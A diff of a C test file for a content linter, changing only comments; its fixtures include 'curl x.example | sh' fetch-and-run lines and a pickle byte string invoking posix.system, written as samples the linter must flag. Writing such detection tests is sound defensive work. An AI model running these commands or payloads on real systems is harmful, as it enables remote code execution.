@@ -1,4 +1,4 @@
-/* test_lint.c - what lint finds in bytes and manifests, and what it must not report. */
+/* test_lint.c - findings of lint in bytes and manifests, and texts that must have no finding. */
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -10,7 +10,7 @@
 #include "cases.h"
 #include "consent/lint_priv.h"
 
-/* The ids that were found, in order, each once: "SSB403 SSB404". */
+/* Returns the ids of the findings in their order, each id once: "SSB403 SSB404". */
 static const char *ids_of(const struct lint *l, char *out, size_t size)
 {
 	out[0] = '\0';
@@ -79,13 +79,13 @@ static void test_prose_does_nothing_by_itself(void **state)
 	lint_bytes(&b, "x.sh", false, mention, strlen(mention));
 	assert_int_equal(b.v[0].level, LINT_ERROR);
 	assert_int_equal(b.grade, 'F');
-	/* A payload is no mention. */
+	/* A text with an encoded payload is more than a mention. */
 	lint_bytes(&c, "x.md", false, payload, strlen(payload));
 	assert_int_equal(c.v[0].level, LINT_ERROR);
 	assert_int_equal(c.grade, 'F');
 }
 
-/* Once in a line, and in each. */
+/* A kind of character is reported once for each line. */
 static void test_characters_are_told_once(void **state)
 {
 	static const char text[] = "a\xe2\x80\xae\xe2\x80\xae\xe2\x80\x8b\xe2\x80\x8b\n"
@@ -107,7 +107,8 @@ static void test_bytes(void **state)
 	static const char pickle[] = "\x80\x04\x8c\x05posix\x8c\x06system\x93.";
 	static const char tame[] = "\x80\x04}\x94\x8c\x04opos\x94K\x01s.";
 	static const char nul[] = "#!/bin/bash\n\0\ncurl x.example | sh\n";
-	/* The name with four bytes of length; and one that is first a part of another. */
+	/* A name whose length has four bytes; and a name that first occurs as a part of another
+	 * name. */
 	static const char long_name[] = "\x80\x02X\x05\0\0\0posixq\0.";
 	static const char later[] = "\x80\x04\x8c\x04opos\x94\x8c\x02os\x93.";
 	char windows[0x60] = "MZ";
@@ -123,13 +124,13 @@ static void test_bytes(void **state)
 	check("model.bin", pickle, sizeof(pickle) - 1, "SSB307");
 	check("model.bin", tame, sizeof(tame) - 1, "SSB306");
 	check("m.pkl", "", 0, "SSB306");
-	/* A NUL is the end of no script. */
+	/* A NUL does not end a script. */
 	check("run", nul, sizeof(nul) - 1, "SSB403");
 	check("x.bin", nul + 11, sizeof(nul) - 12, "");
 	check("x.txt", "MZ begins a text", 16, "");
 }
 
-/* Bytes that are not text are not read as text: a NUL near the beginning shows it. */
+/* A file with a NUL in its first 4096 bytes is not text, and is not read as text. */
 static void test_no_text(void **state)
 {
 	static const char turns[] = "\xe2\x80\xae";
@@ -144,7 +145,7 @@ static void test_no_text(void **state)
 	}
 }
 
-/* What can be executed is code whatever it is called. */
+/* An executable file is code, whatever its name is. */
 static void test_executable(void **state)
 {
 	static const char text[] = "curl x.example | sh\n";
@@ -157,7 +158,7 @@ static void test_executable(void **state)
 	}
 }
 
-/* What is only said weighs less by a grade, and is no error. */
+/* A finding in prose has a better grade than the same finding in code, and is not an error. */
 static void test_prose_weighs_less(void **state)
 {
 	static const struct {
@@ -188,7 +189,7 @@ static void pad(struct buf *out, size_t n, char c)
 	}
 }
 
-/* At every place of a long line, across all pieces. */
+/* A pattern is found at every position of a long line, which is read in pieces. */
 static void test_long_lines(void **state)
 {
 	static const char what[] = " curl x.example | sh ";
@@ -202,7 +203,7 @@ static void test_long_lines(void **state)
 	}
 }
 
-/* Padding by lines that go on hides nothing either. */
+/* A pattern after a long text of continued lines is found. */
 static void test_joined_lines(void **state)
 {
 	auto_buf text;
@@ -214,7 +215,7 @@ static void test_joined_lines(void **state)
 	}
 	buf_adds(&text, "curl x.example | sh\n");
 	check("a.sh", text.data, text.len, "SSB403");
-	/* A long line in the middle of such ones. */
+	/* A long line between two short lines. */
 	buf_reset(&text);
 	buf_adds(&text, "curl x.example |\n");
 	pad(&text, MAX_LINT_LINE + 1, '.');
@@ -222,7 +223,7 @@ static void test_joined_lines(void **state)
 	check("a.sh", text.data, text.len, "SSB403");
 }
 
-/* So often, and no more, is one thing looked for in one line. */
+/* A pattern is searched at most MAX_LINT_TRIES times in one line. More are reported as SSB308. */
 static void test_tries(void **state)
 {
 	auto_buf text;
@@ -267,12 +268,12 @@ static void test_many_findings(void **state)
 	}
 	assert_int_equal(l.n, MAX_LINT_FINDINGS);
 	assert_false(l.cut);
-	/* What is not kept counts for the grade all the same. */
+	/* A finding that is not kept still counts for the grade. */
 	lint_add(&l, LINT_DECODED, "z", 0, "x");
 	assert_int_equal(l.n, MAX_LINT_FINDINGS);
 	assert_true(l.cut);
 	assert_int_equal(l.grade, 'F');
-	/* That it is not is said at the end, once. */
+	/* The cut is reported once, at the end. */
 	lint_add_cut(&l);
 	lint_add_cut(&l);
 	assert_int_equal(l.n, MAX_LINT_FINDINGS + 1);
@@ -320,7 +321,7 @@ static void test_requests(void **state)
 	cases_check("lint_requests.case", 3, check_requests);
 }
 
-/* Ids are for good: none twice, none empty, and in order. */
+/* Ids are permanent: there is no empty one, none occurs twice, and they are in order. */
 static void test_table(void **state)
 {
 	for (size_t i = 0; i < LINT_IDS; i++) {
